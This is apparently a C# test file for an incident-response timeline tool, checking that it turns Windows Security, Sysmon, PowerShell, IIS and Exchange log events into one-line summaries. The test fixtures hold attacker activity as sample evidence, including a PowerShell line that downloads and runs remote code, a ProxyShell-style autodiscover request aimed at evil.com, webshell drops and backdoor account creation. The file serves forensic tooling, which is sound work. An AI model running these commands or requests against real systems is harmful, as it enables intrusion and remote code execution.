using CsCheck;
using Ooda.Core;
using Ooda.Investigation.Timeline.Internal;

namespace Ooda.Investigation.Tests.Timeline;

public sealed class EventSummariesTests
{
    private const string Sysmon = "Microsoft-Windows-Sysmon/Operational";

    [Theory]
    [InlineData(SourceKind.WindowsEvent, Sysmon, 1,
        "ParentImage=C:\\Windows\\System32\\inetsrv\\w3wp.exe\nImage=C:\\Windows\\System32\\cmd.exe\nCommandLine=cmd.exe /c whoami\nUser=NT AUTHORITY\\SYSTEM",
        "Sysmon 1", "w3wp.exe → cmd.exe: cmd.exe /c whoami (NT AUTHORITY\\SYSTEM)")]
    [InlineData(SourceKind.WindowsEvent, Sysmon, 3,
        "Image=C:\\Windows\\ps.exe\nDestinationIp=10.0.0.10\nDestinationPort=445\nDestinationHostname=acme-dc01\nProtocol=tcp\nUser=ACME\\admin",
        "Sysmon 3", "ps.exe → 10.0.0.10:445 (acme-dc01) tcp (ACME\\admin)")]
    [InlineData(SourceKind.WindowsEvent, Sysmon, 11,
        "Image=C:\\Windows\\System32\\inetsrv\\w3wp.exe\nTargetFilename=C:\\inetpub\\wwwroot\\aspnet_client\\x.aspx",
        "Sysmon 11", "w3wp.exe wrote C:\\inetpub\\wwwroot\\aspnet_client\\x.aspx")]
    [InlineData(SourceKind.WindowsEvent, "Security", 4624,
        "TargetUserName=Administrator\nTargetDomainName=ACME\nLogonType=3\nIpAddress=10.0.0.5\nWorkstationName=ACME-EX01\nAuthenticationPackageName=NTLM",
        "Security 4624", "Logon type 3 (Network) ACME\\Administrator from 10.0.0.5 (ACME-EX01) via NTLM")]
    [InlineData(SourceKind.WindowsEvent, "Security", 4624,
        "TargetUserName=SYSTEM\nLogonType=5\nIpAddress=-\nWorkstationName=-",
        "Security 4624", "Logon type 5 (Service) SYSTEM")]
    [InlineData(SourceKind.WindowsEvent, "Security", 4625,
        "TargetUserName=bob\nTargetDomainName=ACME\nLogonType=10\nIpAddress=203.0.113.9\nStatus=0xc000006d\nSubStatus=0xc000006a",
        "Security 4625", "Failed logon type 10 (RemoteInteractive) ACME\\bob from 203.0.113.9 status 0xc000006d/0xc000006a")]
    [InlineData(SourceKind.WindowsEvent, "Security", 4648,
        "SubjectUserName=svc\nSubjectDomainName=ACME\nTargetUserName=Administrator\nTargetDomainName=ACME\nTargetServerName=acme-dc01\nProcessName=C:\\Windows\\ps.exe",
        "Security 4648", "ACME\\svc used explicit credentials of ACME\\Administrator for acme-dc01 via ps.exe")]
    [InlineData(SourceKind.WindowsEvent, "Security", 4672,
        "SubjectUserName=Administrator\nSubjectDomainName=ACME\nPrivilegeList=SeDebugPrivilege\t\t\tSeBackupPrivilege",
        "Security 4672", "Special privileges for ACME\\Administrator: SeDebugPrivilege SeBackupPrivilege")]
    [InlineData(SourceKind.WindowsEvent, "Security", 4688,
        "ParentProcessName=C:\\Windows\\System32\\inetsrv\\w3wp.exe\nProcessId=0x1a2c\nNewProcessName=C:\\Windows\\System32\\cmd.exe\nNewProcessId=0x1b00\nCommandLine=cmd /c net user\nSubjectUserName=ACME-EX01$\nSubjectDomainName=ACME",
        "Security 4688", "w3wp.exe pid 0x1a2c (6700) → cmd.exe pid 0x1b00 (6912): cmd /c net user by ACME\\ACME-EX01$")]
    [InlineData(SourceKind.WindowsEvent, "Security", 4720,
        "TargetUserName=backdoor\nTargetDomainName=ACME\nSubjectUserName=Administrator\nSubjectDomainName=ACME",
        "Security 4720", "User account ACME\\backdoor created by ACME\\Administrator")]
    [InlineData(SourceKind.WindowsEvent, "Security", 4726,
        "TargetUserName=backdoor\nTargetDomainName=ACME",
        "Security 4726", "User account ACME\\backdoor deleted")]
    [InlineData(SourceKind.WindowsEvent, "Security", 4732,
        "MemberSid=S-1-5-21-1-2-3-1111\nTargetUserName=Administrators\nTargetDomainName=Builtin\nSubjectUserName=Administrator\nSubjectDomainName=ACME",
        "Security 4732", "S-1-5-21-1-2-3-1111 added to local group Builtin\\Administrators by ACME\\Administrator")]
    [InlineData(SourceKind.WindowsEvent, "Security", 4728,
        "MemberName=CN=backdoor,CN=Users,DC=acme,DC=local\nTargetUserName=Domain Admins\nTargetDomainName=ACME",
        "Security 4728", "CN=backdoor,CN=Users,DC=acme,DC=local added to global group ACME\\Domain Admins")]
    [InlineData(SourceKind.WindowsEvent, "System", 7045,
        "ServiceName=PSEXESVC\nImagePath=%SystemRoot%\\PSEXESVC.exe\nStartType=demand start\nAccountName=LocalSystem",
        "System 7045", "Service PSEXESVC installed: %SystemRoot%\\PSEXESVC.exe (demand start) as LocalSystem")]
    [InlineData(SourceKind.WindowsEvent, "System", 7036,
        "param1=PSEXESVC\nparam2=running\nBinary=5000530045",
        "System 7036", "Service PSEXESVC entered the running state")]
    [InlineData(SourceKind.WindowsEvent, "Security", 4697,
        "ServiceName=PSEXESVC\nServiceFileName=%SystemRoot%\\PSEXESVC.exe\nServiceAccount=LocalSystem\nSubjectUserName=Administrator\nSubjectDomainName=ACME",
        "Security 4697", "Service PSEXESVC installed: %SystemRoot%\\PSEXESVC.exe as LocalSystem by ACME\\Administrator")]
    [InlineData(SourceKind.WindowsEvent, "Microsoft-Windows-PowerShell/Operational", 4104,
        "MessageNumber=1\nMessageTotal=1\nScriptBlockText=IEX (New-Object Net.WebClient).DownloadString('http://x/a')",
        "PowerShell 4104", "Script block 1/1: IEX (New-Object Net.WebClient).DownloadString('http://x/a')")]
    [InlineData(SourceKind.WindowsEvent, "MSExchange Management", 1,
        "Data1=New-MailboxExportRequest\nData2=-Mailbox 'admin' -FilePath '\\\\localhost\\c$\\inetpub\\wwwroot\\aspnet_client\\x.aspx'\nData3=acme.local/Users/Administrator",
        "Exchange cmdlet", "New-MailboxExportRequest -Mailbox 'admin' -FilePath '\\\\localhost\\c$\\inetpub\\wwwroot\\aspnet_client\\x.aspx' by acme.local/Users/Administrator")]
    [InlineData(SourceKind.IisW3c, "W3SVC1", null,
        "cs-method=POST\ncs-uri-stem=/autodiscover/autodiscover.json\ncs-uri-query=@evil.com/mapi/nspi/?&Email=autodiscover/autodiscover.json%3F@evil.com\nsc-status=200\nc-ip=203.0.113.7\ncs(User-Agent)=python-requests/2.26.0",
        "IIS", "POST /autodiscover/autodiscover.json?@evil.com/mapi/nspi/?&Email=autodiscover/autodiscover.json%3F@evil.com → 200 from 203.0.113.7 \"python-requests/2.26.0\"")]
    [InlineData(SourceKind.IisW3c, "W3SVC1", null,
        "cs-method=GET\ncs-uri-stem=/owa/\nsc-status=302\nc-ip=10.1.1.1\ncs-username=ACME\\bob\ncs(User-Agent)=Mozilla/5.0+(Windows+NT+10.0)",
        "IIS", "GET /owa/ → 302 from 10.1.1.1 as ACME\\bob \"Mozilla/5.0 (Windows NT 10.0)\"")]
    [InlineData(SourceKind.ExchangeLog, "HttpProxy", null,
        "Method=POST\nUrlStem=/powershell\nUrlQuery=?X-Rps-CAT=abc\nHttpStatus=200\nClientIpAddress=203.0.113.7\nAuthenticatedUser=Administrator@acme.local\nUserAgent=python-requests/2.26.0",
        "HttpProxy", "POST /powershell?X-Rps-CAT=abc → 200 from 203.0.113.7 as Administrator@acme.local \"python-requests/2.26.0\"")]
    [InlineData(SourceKind.WindowsEvent, "Microsoft-Windows-TaskScheduler/Operational", 106,
        "TaskName=\\Backup\nUserContext=ACME\\svc-backup\nEventID=106",
        "TaskScheduler 106", "TaskName=\\Backup · UserContext=ACME\\svc-backup")]
    [InlineData(SourceKind.ExchangeLog, "ECP Server", null,
        "UrlStem=/ecp/DDI/DDIService.svc/GetList\nDateTime=2021-08-06T10:00:00Z",
        "ECP Server", "UrlStem=/ecp/DDI/DDIService.svc/GetList")]
    public void Summarises_each_common_event_in_one_readable_line(SourceKind kind, string channel, int? eventId, string fields, string label, string summary)
    {
        var e = Event(kind, channel, eventId, fields);
        var row = TimelineRows.FromEvent(e, 400);
        Assert.Equal(label, row.Source);
        Assert.Equal(summary, row.Summary);
    }

    [Fact]
    public void Reads_sigma_field_names_too_and_falls_back_to_the_telling_fields_when_the_template_has_nothing_to_show()
    {
        var flat = Event(SourceKind.FlatJson, "Security", 4688, "ParentImage=C:\\w\\w3wp.exe\nImage=C:\\x\\evil.exe\nCommandLine=evil.exe -run\nComputer=pc1");
        Assert.Equal("w3wp.exe → evil.exe: evil.exe -run", TimelineRows.FromEvent(flat, 400).Summary);

        var empty = Event(SourceKind.WindowsEvent, Sysmon, 11, "UtcTime=2021-08-06 10:00:00.000\nCreationUtcTime=2021-08-06 10:00:00.000");
        Assert.Equal("CreationUtcTime=2021-08-06 10:00:00.000", TimelineRows.FromEvent(empty, 400).Summary);
    }

    [Fact]
    public void Clips_a_long_script_block_to_the_summary_length_with_an_ellipsis()
    {
        var e = Event(SourceKind.WindowsEvent, "Microsoft-Windows-PowerShell/Operational", 4104, "ScriptBlockText=" + new string('A', 100_000));
        var summary = TimelineRows.FromEvent(e, 80).Summary;
        Assert.Equal(80, summary.Length);
        Assert.EndsWith("A…", summary, StringComparison.Ordinal);
    }

    [Fact]
    public void Every_template_in_the_table_parses_and_renders_something_from_its_own_fields()
    {
        foreach (var (label, template) in EventSummaries.Templates)
        {
            var names = System.Text.RegularExpressions.Regex.Matches(template.Text, "\\{([^}:|]+)").Select(m => m.Groups[1].Value).Distinct();
            var fields = TimelineStore.Fields([.. names.Select(n => (n, "v"))]);
            var sb = new System.Text.StringBuilder();
            Assert.True(template.TryRender(fields, sb), label);
            // '?' alone is what a missing field renders as.
            Assert.DoesNotMatch(@"(^|[\s(])\?([\s)]|$)", sb.ToString());
        }
    }

    [Fact]
    public void Summaries_never_hold_control_or_layout_characters_whatever_the_evidence_holds()
    {
        var hostile = Gen.Char.Array[0, 300].Select(chars => new string(chars));
        Gen.Select(hostile, hostile, Gen.Int[16, 300]).Sample((command, image, max) =>
        {
            var e = Event(SourceKind.WindowsEvent, Sysmon, 1, string.Empty) with
            {
                Fields = TimelineStore.Fields(("Image", image), ("CommandLine", command), ("ParentImage", "\u001b[31mx\r\ny")),
            };
            var generic = Event(SourceKind.Csv, "x", null, string.Empty) with { Fields = TimelineStore.Fields((command, image)) };
            foreach (var summary in new[] { TimelineRows.FromEvent(e, max).Summary, TimelineRows.FromEvent(generic, max).Summary })
            {
                Assert.True(summary.Length <= max, summary);
                Assert.DoesNotContain(summary, SummaryText.IsBreaking);
                Assert.DoesNotContain("  \u0000", summary, StringComparison.Ordinal);
                Assert.False(summary.Any(char.IsSurrogate) && !System.Text.Unicode.Utf8.IsValid(System.Text.Encoding.UTF8.GetBytes(summary)));
            }
        }, seed: "0N0XIzNsQ0O2", iter: 3000);
    }

    private static EvidenceEvent Event(SourceKind kind, string channel, int? eventId, string fields) => new()
    {
        Timestamp = TimelineStore.T0,
        Tenant = "acme",
        Host = "acme-ex01",
        Kind = kind,
        Channel = channel,
        EventId = eventId,
        Fields = TimelineStore.Fields([.. fields.Split('\n', StringSplitOptions.RemoveEmptyEntries).Select(Pair)]),
        Provenance = new Provenance("x", TimelineStore.Sha('a'), 0, 1),
    };

    private static (string, string) Pair(string text)
    {
        var eq = text.IndexOf('=', StringComparison.Ordinal);
        return (text[..eq], text[(eq + 1)..]);
    }
}
